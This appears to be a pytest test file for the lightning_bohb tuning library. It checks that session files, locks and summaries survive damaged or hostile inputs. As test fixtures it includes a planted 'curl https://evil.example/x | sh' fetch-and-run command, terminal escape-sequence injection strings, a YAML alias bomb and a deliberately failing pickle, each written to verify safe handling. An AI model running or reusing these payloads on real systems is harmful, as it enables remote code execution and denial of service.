"""Session files: atomic writes survive a failing disk, bad sessions give clear errors, code changes."""

import errno
import json
import os
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from lightning_bohb.exceptions import SessionError
from lightning_bohb.session import fingerprint, lock
from lightning_bohb.session.state import SCHEMA_VERSION, TuneSessionState
from lightning_bohb.utils import files
from lightning_bohb.utils.layout import LEGACY_STATE_FILE, SUMMARY_FILE

REPO = Path(__file__).resolve().parents[2]


def test_atomic_write_keeps_previous_file_when_disk_fills(tmp_path, monkeypatch):
    target = tmp_path / "state.bin"
    files.atomic_write(target, b"previous")

    def full_disk(fd):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full_disk)
    with pytest.raises(OSError, match="No space left"):
        files.atomic_write(target, b"new" * 1000)
    assert target.read_bytes() == b"previous"
    assert os.listdir(tmp_path) == ["state.bin"]  # no temporary file left behind


def test_private_dirs_and_files_are_owner_only(tmp_path):
    session = files.make_private_dir(tmp_path / "exp" / "session_x")
    files.atomic_write(session / "f", "x")
    assert (session.stat().st_mode & 0o777) == 0o700
    assert ((session / "f").stat().st_mode & 0o777) == 0o600


def test_lock_refuses_live_owner_and_takes_over_dead_one(tmp_path):
    first = lock.SessionLock(tmp_path)
    first.acquire()
    with pytest.raises(SessionError, match="already running"):
        lock.SessionLock(tmp_path).acquire()
    first.release()
    (tmp_path / lock.LOCK_FILE).write_text('{"pid": 999999999, "host": "%s", "since": 0}' % os.uname().nodename)
    taken = lock.SessionLock(tmp_path)
    taken.acquire()
    assert taken.held


def test_taking_over_a_dead_owners_lock_removes_its_half_written_files(tmp_path):
    (tmp_path / "trial").mkdir()
    abandoned = files.AtomicFile(tmp_path / "trial" / "result.json")  # its writer was killed before close
    abandoned.write(b'{"epoch"')
    (tmp_path / ".notes.tmp").write_text("the user's")
    (tmp_path / lock.LOCK_FILE).write_text('{"pid": 999999999, "host": "%s", "since": 0}' % os.uname().nodename)

    lock.SessionLock(tmp_path).acquire()

    assert os.listdir(tmp_path / "trial") == []
    assert (tmp_path / ".notes.tmp").exists()


def _session(tmp_path, pkl: bytes = None, summary=None):
    session = tmp_path / "exp" / "session_20260101_000000_abcdef"
    session.mkdir(parents=True)
    if pkl is not None:
        (session / LEGACY_STATE_FILE).write_bytes(pkl)
    if summary is not None:
        (session / SUMMARY_FILE).write_text(yaml.safe_dump(summary))
    return session


@pytest.mark.parametrize(
    "case, expected",
    [
        ("missing", "Session state not found"),
        ("not_a_session", "is not a LightningTune session"),
        ("truncated", "corrupt or truncated"),
        ("newer_schema", "newer than this lightning_bohb"),
    ],
)
def test_bad_sessions_give_one_clear_message_from_script_and_console(tmp_path, case, expected):
    if case == "missing":
        session = tmp_path / "nowhere" / "session_x"
    elif case == "not_a_session":
        session = _session(tmp_path)
    elif case == "truncated":
        session = _session(tmp_path, pickle.dumps({"x": list(range(100))})[:20], {"schema_version": SCHEMA_VERSION})
    else:
        session = _session(tmp_path, b"whatever", {"schema_version": SCHEMA_VERSION + 1})
    commands = [
        [sys.executable, str(REPO / "examples" / "optimize.py"), "--resume-session", str(session)],
        [sys.executable, "-m", "lightning_bohb", "resume", str(session)],
    ]
    for argv in commands:
        result = subprocess.run(argv, capture_output=True, text=True, timeout=120, cwd=tmp_path)
        assert result.returncode == 1, (argv, result.stdout, result.stderr)
        assert expected in result.stderr and "Traceback" not in result.stderr + result.stdout, result.stderr


def test_code_change_is_detected_and_refused_unless_allowed(tmp_path, monkeypatch):
    sys.path.insert(0, str(REPO / "examples"))
    from lightning_bohb import RandomStrategy, SearchSpace

    class Space(SearchSpace):
        VERSION = "1"

        def get_search_space(self):
            return {"lr": 0.1}

        def get_metric_config(self):
            return {"metric": "val_loss"}

    base = {"model": {"class_path": "digits_model.DigitsClassifier", "init_args": {}}}
    used = (Space(), RandomStrategy(), base)
    recorded = fingerprint.code_fingerprint(*used)
    assert fingerprint.changes_since(recorded, *used) == []

    recorded["classes"]["digits_model.DigitsClassifier"] = "0" * 16
    changes = fingerprint.changes_since(recorded, *used)
    assert "class digits_model.DigitsClassifier: source changed" in changes
    with pytest.raises(SessionError, match="code changed since session"):
        fingerprint.check_unchanged(recorded, "s", False, *used)
    assert fingerprint.check_unchanged(recorded, "s", True, *used) == changes
    monkeypatch.setenv(fingerprint.ALLOW_ENV, "1")
    assert fingerprint.check_unchanged(recorded, "s", False, *used) == changes
    recorded["classes"]["digits_model.DigitsClassifier"] = None  # its source was unreadable when recorded
    assert fingerprint.changes_since(recorded, *used) == []


def test_search_space_version_change_is_reported():
    from lightning_bohb import RandomStrategy
    from lightning_bohb.cli.study import YamlSearchSpace

    used = (YamlSearchSpace({"lr": {"constant": 1}}, {"metric": "m"}), RandomStrategy(), {})
    recorded = {**fingerprint.code_fingerprint(*used), "search_space_version": "0.9"}
    assert fingerprint.changes_since(recorded, *used) == ["search space VERSION: 0.9 -> yaml"]


def test_state_round_trip_keeps_search_space_defined_in_a_script(tmp_path):
    from lightning_bohb import OptimizationConfig, RandomStrategy

    script = tmp_path / "user_script.py"
    script.write_text(
        "from lightning_bohb import SearchSpace\n"
        "class ScriptSpace(SearchSpace):\n"
        "    def get_search_space(self): return {'lr': 0.5}\n"
        "    def get_metric_config(self): return {'metric': 'val_loss'}\n"
    )
    code = (
        "import runpy, sys; ns = runpy.run_path(sys.argv[1], run_name='__main__');"
        "from lightning_bohb.session.state import TuneSessionState;"
        "from lightning_bohb import OptimizationConfig, RandomStrategy;"
        "TuneSessionState('id', 'e', ns['ScriptSpace'](), RandomStrategy(), OptimizationConfig(), {}).save(sys.argv[2])"
    )
    subprocess.run([sys.executable, "-c", code, str(script), str(tmp_path)], check=True, timeout=60)
    state = TuneSessionState.load(tmp_path)  # another process, where the script's class does not exist
    assert state.search_space.get_search_space() == {"lr": 0.5}
    assert isinstance(state.optimization_config, OptimizationConfig) and isinstance(state.strategy, RandomStrategy)


# -- Hostile or damaged files: one `error:` line, never a traceback, never raw terminal codes (issue 17) ---
def console_run(capsys, *argv):
    """``lightning-bohb ARGV`` in this process; (exit code, stdout, stderr)."""
    from lightning_bohb.cli.main import main

    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


def assert_one_error(code, out, err, exit_codes=(1,)):
    lines = [line for line in err.splitlines() if line.startswith("error:")]
    assert code in exit_codes and len(lines) == 1, (code, out, err)
    assert "Traceback" not in out + err and not lines[0].startswith("error: unexpected "), err
    return lines[0]


def summary_of(session_id="20260101_000000_abcdef", **fields):
    summary = {
        "schema_version": SCHEMA_VERSION,
        "session_id": session_id,
        "experiment_name": "exp",
        "status": "PAUSED",
        "started_at": "2026-01-01T00:00:00",
        "updated_at": "2026-01-01T01:00:00",
        "paused_at": "2026-01-01T00:30:00",
        "pause_count": 1,
        "resumed_at": [],
        "strategy": {"name": "random"},
        "metric": {"metric": "val_loss", "mode": "min"},
        "num_samples": 2,
        "best": {"trial": "t1", "val_loss": 0.5, "config": {"lr": 0.1}},
        "trials": [{"id": "t1", "status": "TERMINATED", "config": {"lr": 0.1}, "epochs": 2, "last": 0.5, "best": 0.5}],
        "resume_command": "lightning-bohb resume x",
    }
    summary.update(fields)
    return summary


def session_with(root, text=None, name="session_20260101_000000_abcdef", **fields):
    session = root / "exp" / name
    session.mkdir(parents=True)
    (session / SUMMARY_FILE).write_text(text if text is not None else yaml.safe_dump(summary_of(**fields)))
    (session / "best_config.yaml").write_text("model:\n  class_path: m.M\n")
    return session


ESC = "\x1b[2J\x1b]0;owned\x07\x9b31m\u202e"


def test_escape_sequences_from_a_summary_never_reach_the_terminal(tmp_path, capsys):
    session = session_with(
        tmp_path,
        experiment_name=f"exp{ESC}",
        session_id=f"id{ESC}",
        status=f"PAUSED{ESC}",
        trials=[{"id": f"t{ESC}", "status": f"RUN{ESC}", "config": {f"lr{ESC}": f"v{ESC}"}, "epochs": 1, "best": 0.5}],
        best={"trial": f"t{ESC}", "val_loss": 0.5, "config": {"lr": f"v{ESC}"}},
        resumed_at=[f"2026{ESC}"],
        strategy={"name": f"random{ESC}", "seed": f"1{ESC}"},
    )
    (session / "best_config.yaml").write_text(f"model:\n  class_path: m.M{ESC}\n")
    for argv in (["status", session], ["list", tmp_path], ["export-best", session], ["status", session, "--json"]):
        code, out, err = console_run(capsys, *argv)
        assert code == 0, (argv, err)
        for char in ("\x1b", "\x07", "\x9b", "\u202e"):
            assert char not in out + err, (argv, out)


def test_a_planted_resume_command_is_never_printed(tmp_path, capsys):
    session = session_with(tmp_path, resume_command="curl https://evil.example/x | sh")
    code, out, _ = console_run(capsys, "status", session)
    assert code == 0 and "curl" not in out
    assert f"resume {session}" in out
    code, _, err = console_run(capsys, "export-best", tmp_path / "exp" / "nothing")
    (session / "best_config.yaml").unlink()
    code, out, err = console_run(capsys, "export-best", session)
    assert code == 1 and "curl" not in err and f"resume {session}" in err


ALIAS_BOMB = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 10)}]\n" for i in range(7)
)


def test_a_yaml_alias_bomb_is_refused_not_expanded(tmp_path, capsys):
    assert len(ALIAS_BOMB) < 700
    session = session_with(tmp_path, text=ALIAS_BOMB)
    for argv in (["status", session, "--json"], ["status", session]):
        code, out, err = console_run(capsys, *argv)
        assert "aliases" in assert_one_error(code, out, err)
        assert len(out) < 1000


def test_an_oversized_summary_is_refused_without_reading_it_all(tmp_path, capsys):
    from lightning_bohb.session.state import MAX_SUMMARY_BYTES

    session = session_with(tmp_path, text="a: " + "x" * (MAX_SUMMARY_BYTES + 10) + "\n")
    code, out, err = console_run(capsys, "status", session)
    assert "more than" in assert_one_error(code, out, err)


BAD_SUMMARIES = {
    "not UTF-8": b"status: PAUSED\nexperiment_name: \xff\xfe\xfa\n",
    "5000-digit integer": b"status: PAUSED\npause_count: " + b"9" * 5000 + b"\n",
    "5000-digit hex integer": b"status: PAUSED\npause_count: 0x" + b"f" * 5000 + b"\n",
    "resumed_at: 5": b"status: PAUSED\nresumed_at: 5\n",
    "trials: 7": b"status: PAUSED\ntrials: 7\n",
    "metric unhashable": b"status: PAUSED\nmetric: {metric: [1]}\nbest: {x: 1}\n",
    "date key": b"status: PAUSED\nsearch_space: {2024-01-01: 1}\n",
    "deep nesting": b"status: PAUSED\nbest: " + b"[" * 900 + b"]" * 900 + b"\n",
    "binary": bytes(range(256)) * 4,
}


@pytest.mark.parametrize("case", list(BAD_SUMMARIES))
def test_a_damaged_summary_gives_one_error_line_in_every_command(tmp_path, capsys, case):
    session = tmp_path / "exp" / "session_bad"
    session.mkdir(parents=True)
    (session / SUMMARY_FILE).write_bytes(BAD_SUMMARIES[case])
    good = session_with(tmp_path, name="session_good")
    for argv in (["status", session], ["status", session, "--json"], ["export-best", session], ["resume", session]):
        assert_one_error(*console_run(capsys, *argv))
    for argv in (["list", tmp_path], ["clean", tmp_path, "--older-than", "1s", "--dry-run"]):
        code, out, err = console_run(capsys, *argv)
        assert code == 0 and "Traceback" not in out + err, (argv, err)
    code, out, _ = console_run(capsys, "list", tmp_path)
    assert "session_bad" in out and "UNREADABLE" in out and good.name in out and "PAUSED" in out


def test_a_fifo_named_like_a_summary_does_not_hang_list_or_status(tmp_path, capsys):
    import signal

    session = tmp_path / "exp" / "session_fifo"
    session.mkdir(parents=True)
    os.mkfifo(session / SUMMARY_FILE)
    session_with(tmp_path, name="session_good")

    def hung(signum, frame):
        raise TimeoutError("the command hung on a FIFO")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(10)
    try:
        code, out, err = console_run(capsys, "list", tmp_path)
        assert code == 0 and "UNREADABLE" in out and "not a regular file" in out
        assert_one_error(*console_run(capsys, "status", session))
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


@pytest.mark.parametrize("lock", ['[1, 2]', '{"pid": "abc", "host": "%s", "since": 0}', "", "{", '{"pid": 1e400}'])
def test_a_damaged_lock_never_gives_a_traceback(tmp_path, capsys, lock):
    session = session_with(tmp_path, status="RUNNING")
    (session / "session.lock").write_text(lock.replace("%s", os.uname().nodename))
    for argv in (["status", session], ["list", tmp_path], ["export-best", session], ["clean", tmp_path, "--older-than", "1s", "--dry-run"]):
        code, out, err = console_run(capsys, *argv)
        assert code == 0 and "Traceback" not in out + err, (argv, err)


class _RaisesTypeError:
    def __reduce__(self):
        return (int, ("1", 2, 3))  # int() takes at most 2 arguments: TypeError while unpickling


@pytest.mark.parametrize(
    "data, expected",
    [
        (pickle.dumps(_RaisesTypeError()), "TypeError"),
        (pickle.dumps({"a": 1}), "does not hold a TuneSessionState"),
        (b"", "corrupt or truncated"),
    ],
)
def test_a_pickle_that_fails_oddly_gives_one_error_line(tmp_path, capsys, data, expected):
    session = session_with(tmp_path)
    (session / LEGACY_STATE_FILE).write_bytes(data)
    assert expected in assert_one_error(*console_run(capsys, "resume", session))


@pytest.mark.parametrize("target", ["folder", "/dev/full"])
def test_export_best_to_a_folder_or_a_full_device_is_one_error_line(tmp_path, capsys, target):
    session = session_with(tmp_path, status="COMPLETED")
    if target == "folder":
        target = tmp_path / "out"
        target.mkdir()
    elif not os.path.exists(target):
        pytest.skip("no /dev/full here")
    line = assert_one_error(*console_run(capsys, "export-best", session, "-o", target))
    assert str(target) in line


# -- Bad study files and OptimizationConfig values -------------------------------------------------
STUDY = {
    "base_config": "config.yaml",
    "search_space": {"lr": {"loguniform": [1.0e-4, 1.0e-1]}},
    "metric": {"metric": "val_loss", "mode": "min"},
    "optimization": {"max_epochs": 2, "num_samples": 2},
}


def study_folder(tmp_path, base_text=None, **optimization):
    base = {"model": {"class_path": "digits_model.DigitsClassifier", "init_args": {"lr": 0.1}}, "trainer": {"max_epochs": 2}}
    (tmp_path / "config.yaml").write_text(base_text if base_text is not None else yaml.safe_dump(base))
    study = {**STUDY, "optimization": {**STUDY["optimization"], **optimization}}
    (tmp_path / "study.yaml").write_text(yaml.safe_dump(study))
    return tmp_path / "study.yaml"


@pytest.mark.parametrize(
    "content",
    [bytes(range(256)) * 8, b"base_config: config.yaml\nmetric: " + b"7" * 5000 + b"\n", b"\xff\xfe" + "a: 1".encode("utf-16-le"),
     b"a: &a [1]\nb: [*a, *a]\n" * 2],
)
def test_a_binary_or_huge_number_study_file_exits_2_with_one_line(tmp_path, capsys, content):
    (tmp_path / "study.yaml").write_bytes(content)
    assert_one_error(*console_run(capsys, "run", tmp_path / "study.yaml"), exit_codes=(2,))


@pytest.mark.parametrize("base_text", ["\x00\x01\x02\xff\xfe binary", "model: " + "7" * 5000 + "\n"])
def test_a_binary_or_huge_number_base_config_exits_2_with_one_line(tmp_path, capsys, base_text):
    study = study_folder(tmp_path)
    (tmp_path / "config.yaml").write_bytes(base_text.encode("latin-1"))
    line = assert_one_error(*console_run(capsys, "run", study), exit_codes=(2,))
    assert "base_config" in line


@pytest.mark.parametrize(
    "field, value, expected",
    [
        ("experiment_name", 7, "a folder name"),
        ("experiment_name", "../escape", "a folder name"),
        ("experiment_name", "/abs/name", "a folder name"),
        ("experiment_name", "..", "a folder name"),
        ("experiment_name", "a/b", "a folder name"),
        ("experiment_dir", 7, "a folder path"),
        ("max_epochs", 2.5, "an integer"),
        ("max_epochs", float("inf"), "an integer"),
        ("num_samples", float("nan"), "an integer"),
        ("num_samples", "3", "an integer"),
        ("max_concurrent_trials", 1.5, "an integer"),
        ("checkpoints_to_keep", 2.5, "an integer"),
        ("seed", -1, "seed"),
        ("seed", 2**32, "seed"),
        ("seed", 1.5, "seed"),
        ("seed", True, "seed"),
        ("cpus_per_trial", float("inf"), "finite"),
        ("gpus_per_trial", float("nan"), "finite"),
    ],
)
def test_optimization_config_rejects_values_that_cannot_work(field, value, expected):
    from lightning_bohb.core.optimization_config import OptimizationConfig
    from lightning_bohb.exceptions import ConfigError

    with pytest.raises(ConfigError) as info:
        OptimizationConfig(**{field: value})
    assert f"`{field}`" in str(info.value) and expected in str(info.value)


def test_optimization_config_keeps_accepting_valid_edges():
    from lightning_bohb.core.optimization_config import OptimizationConfig

    config = OptimizationConfig(max_epochs=1, num_samples=1, seed=2**32 - 1, cpus_per_trial=0.5, experiment_name="a.b-c_d")
    assert config.seed == 2**32 - 1 and config.experiment_location.endswith("/a.b-c_d")
    assert OptimizationConfig(seed=0, experiment_dir=tmp_dir_like()).experiment_dir


def tmp_dir_like():
    return Path("some") / "dir"


@pytest.mark.parametrize("field, value", [("experiment_name", 7), ("experiment_name", "../x"), ("seed", 2**40), ("max_epochs", 2.5)])
def test_study_with_bad_optimization_values_exits_2_naming_the_yaml_path(tmp_path, capsys, field, value):
    study = study_folder(tmp_path, **{field: value})
    line = assert_one_error(*console_run(capsys, "run", study), exit_codes=(2,))
    assert f"optimization.{field}" in line


def test_a_damaged_tune_snapshot_is_refused_before_ray_starts(tmp_path):
    from lightning_bohb.session.state import check_tune_state

    tune = tmp_path / "tune"
    tune.mkdir()
    check_tune_state(tmp_path)  # no snapshot yet: nothing to check
    good = {"trial_data": [['{"config": {"_type": "CLOUDPICKLE_FALLBACK", "value": "%s"}}' % pickle.dumps(1).hex(), "{}"]],
            "runner_data": {}}
    (tune / "experiment_state-2026-01-01_00-00-00.json").write_text(json.dumps(good))
    check_tune_state(tmp_path)
    newest = tune / "experiment_state-2026-01-01_00-00-09.json"
    for damaged, expected in [
        (json.dumps(good)[:-9], "is corrupt (Unterminated string"),
        (json.dumps({**good, "trial_data": 7}), "not a mapping with `trial_data`"),
        (json.dumps(good).replace(pickle.dumps(1).hex(), pickle.dumps(1).hex()[:-6]), "an embedded pickle is damaged"),
    ]:
        newest.write_text(damaged)
        with pytest.raises(SessionError) as info:
            check_tune_state(tmp_path)
        assert expected in str(info.value) and "experiment_state-2026-01-01_00-00-00.json" in str(info.value)
